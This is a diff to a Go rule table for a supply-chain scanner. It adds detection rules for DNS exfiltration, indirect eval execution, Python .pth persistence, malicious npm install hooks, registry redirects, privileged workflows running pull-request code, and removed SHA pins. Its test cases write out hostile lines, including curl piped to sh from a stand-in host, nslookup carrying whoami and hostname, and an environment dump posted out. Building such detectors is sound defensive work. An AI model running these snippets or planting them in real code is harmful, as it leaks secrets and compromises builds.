@@ -58,6 +58,13 @@ var rules = []Rule{
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 	}},
+	{"indirect-run", KindDecodeExec, High, "pipes eval's output into a shell, or data into eval",
+		"the command that runs is assembled at run time from variables (as the xz backdoor's build script did), so the diff does not show it", []Case{
+			{"m4/x.m4", "AC_CONFIG_COMMANDS([x], [eval $gl_config | $SHELL 2>/dev/null])", 0, false},
+			{"configure.ac", "  eval x=\\\"\\$y\\\" | /bin/sh 2>/dev/null", 0, false},
+			{"x.sh", "cfg='sed r $f | eval $map | $dec -d'", 0, false},
+			{"x.sh", "eval \"$(ssh-agent -s)\"", 0, true},
+		}},
 	{"vendor-installer", KindDownload, Medium, "runs a vendor's installer fetched from the vendor's own host",
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
@@ -70,6 +77,12 @@ var rules = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+		}},
+	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
+		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
+			{"x.js", "const dns = require('dns')\nconst h = Buffer.from(os.hostname()).toString('hex')\ndns.resolve(`${h}.x.invalid-dns.com`, () => {})", 3, false},
+			{"x.sh", "nslookup $(whoami).$(hostname).x.invalid-dns.com", 0, false},
+			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", whySecrets, []Case{
 		{"x.sh", "printenv > /tmp/e", 0, false},
@@ -92,6 +105,12 @@ var rules = []Rule{
 			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
 			{"x.sh", "source ~/.bashrc", 0, true},
 		}},
+	{"python-pth", KindExecute, High, "installs or writes a .pth file (Python runs its import lines at every start)",
+		"site-packages .pth files are read by every Python interpreter on the machine at start-up, and a line starting with import runs: code that outlives the install, in every later job", []Case{
+			{"setup.py", "setup(\n    data_files=[(sysconfig.get_paths()[\"purelib\"], [\"x-init.pth\"])],\n)", 2, false},
+			{"x.py", "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import x')", 0, false},
+			{"x.py", "import pathlib", 0, true},
+		}},
 	{"cgo-flags", KindBuildFile, High, "cgo directive passes a compiler plugin or linker flag that runs code",
 		"go build hands these flags to the C toolchain, which loads and runs what they name at build time", []Case{
 			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
@@ -106,7 +125,10 @@ var rules = []Rule{
 		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"start /B node preinstall.js & node preinstall.js\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"nohup node sync.js >/dev/null 2>&1\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"prepare\": \"husky install\"\n  }\n}", 3, true},
+			{"package.json", "{\n  \"scripts\": {\n    \"install\": \"prebuild-install -r napi || node-gyp rebuild && echo ok\"\n  }\n}", 3, true},
 		}},
 	{"npm-lifecycle", KindScript, Medium, "npm lifecycle script: runs on npm install",
 		"npm runs it at install on the runner, before any test: read what it runs", []Case{
@@ -129,6 +151,14 @@ var rules = []Rule{
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+		}},
+	{"gha-pr-code-run", KindRunner, High, "runs the pull request's code in a privileged workflow",
+		"after the checkout of the pull request's head, this step installs, builds or runs what the pull request wrote, with the repository's write token and secrets", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,7 +1,9 @@\n on:\n-  pull_request:\n+  pull_request_target:\n jobs:\n   b:\n     steps:\n       - uses: actions/checkout@v4\n+        with:\n+          ref: ${{ github.event.pull_request.head.ref }}\n-      - run: make\n+      - run: make test\n", 9, false},
+			// Without a checkout of the head the base branch's own code runs.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
 		}},
 	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
 		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
@@ -180,6 +210,9 @@ var rules = []Rule{
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"https://x.invalid/lodash-4.17.21.tgz\"\n  }\n}", 3, false},
 			{"requirements.txt", "requests @ https://x.invalid/requests-2.32.0.tar.gz", 0, false},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
+			// A hunk inside the block, its key not shown.
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n     \"eslint\": \"^8.56.0\",\n-    \"chalk\": \"^5.3.0\"\n+    \"chalk\": \"github:chalk-dev/chalk#v5.3.0\"\n", 4, false},
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n   \"license\": \"MIT\",\n-  \"homepage\": \"https://x.invalid\"\n+  \"homepage\": \"https://x.invalid/docs#readme\"\n", 4, true},
 		}},
 	{"registry-redirect", KindDependency, High, "points package installs at another registry or index",
 		"every package the build installs can then come from whoever runs that host (dependency confusion)", []Case{
@@ -187,17 +220,28 @@ var rules = []Rule{
 			{"x.sh", "pip install --extra-index-url https://pypi.x.invalid/simple app", 0, false},
 			{"pip.conf", "[global]\nindex-url = https://pypi.x.invalid/simple", 2, false},
 			{"x.sh", "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0, true},
+			{"x.sh", `git config --global url."https://mirror.x.invalid/github.com/".insteadOf "https://github.com/"`, 0, false},
+			{"Dockerfile", "FROM golang:1.23\nRUN git config --global url.https://git.x.invalid/.insteadOf https://github.com/", 2, false},
+			{"x.sh", `git config --global url."https://${TOKEN}@github.com/".insteadOf "https://github.com/"`, 0, true},
+			{"x.sh", `git config --global url."git@github.com:".insteadOf "https://github.com/"`, 0, true},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM nodesource/node:20-slim\n", 1, false},
 			{".gitmodules", "diff --git a/.gitmodules b/.gitmodules\n--- a/.gitmodules\n+++ b/.gitmodules\n@@ -1,2 +1,2 @@\n [submodule \"lib\"]\n-\turl = https://github.com/acme/lib.git\n+\turl = https://github.com/acme-mirror/lib.git\n", 2, false},
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM node:22-slim\n", 1, true},
+			{"go.mod", "module x\n\nreplace github.com/boltdb/bolt => github.com/bolt-go/bolt v1.3.1", 3, false},
+			{"package-lock.json", "diff --git a/package-lock.json b/package-lock.json\n--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,2 +1,2 @@\n     \"node_modules/ms\": {\n-      \"resolved\": \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz\",\n+      \"resolved\": \"https://npm.x.invalid/ms/-/ms-2.1.3.tgz\",\n", 2, false},
+			{"go.mod", "module x\n\nreplace k8s.io/api => ./staging/src/k8s.io/api", 3, true},
 		}},
 	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known action, image or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: docker/login-action@v3\n+  - uses: docker/login-actions@v3\n", 2, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-nodes@v4", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-node@v4\n      - uses: github/codeql-action/init@v3", 5, true},
+			{"yarn.lock", "lodash@^4.17.21:\n  version \"4.17.21\"\n  resolved \"https://registry.yarnpkg.co/lodash/-/lodash-4.17.21.tgz#679591c5\"", 3, false},
 		}},
 	{"gradle-distribution", KindBuildFile, High, "Gradle wrapper downloads Gradle from somewhere else",
 		"gradlew downloads and runs the distribution it names, on every build", []Case{
@@ -280,6 +324,11 @@ var rules = []Rule{
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@2222222222222222222222222222222222222222 # v2.0.1\n", 2, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@2222222222222222222222222222222222222222 # v2.0.2\n", 2, true},
 		}},
+	{"gha-pin-removed", KindCIFile, High, "replaces an action's commit-SHA pin with a tag or branch",
+		"the pin fixed the code that runs; a tag can be moved to any commit by whoever controls the action (as in the tj-actions and reviewdog compromises), and its code runs with the job's token and secrets", []Case{
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@v2\n", 2, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@v1\n+  - uses: acme/act@v2\n", 2, true},
+		}},
 	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
 		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
 	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on pull_request_target or workflow_run",
@@ -306,6 +355,8 @@ var rules = []Rule{
 			{"x.js", "const s = '\U000E0061\U000E0062\U000E0063'", 0, false},
 			{"x.js", "const p = 'x\ufe00\ufe01\ufe02\ufe03'", 0, false},
 			{"x.go", "if user\u200b == admin {", 0, false},
+			{"x.js", "const { timeout,\u3164 } = req.query", 0, false},
+			{"x.js", "const greeting = '안녕하세요'", 0, true},
 			{"x.js", "const ok = '👍🏽'", 0, true},
 		}},
 	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", hiddenWhy, []Case{
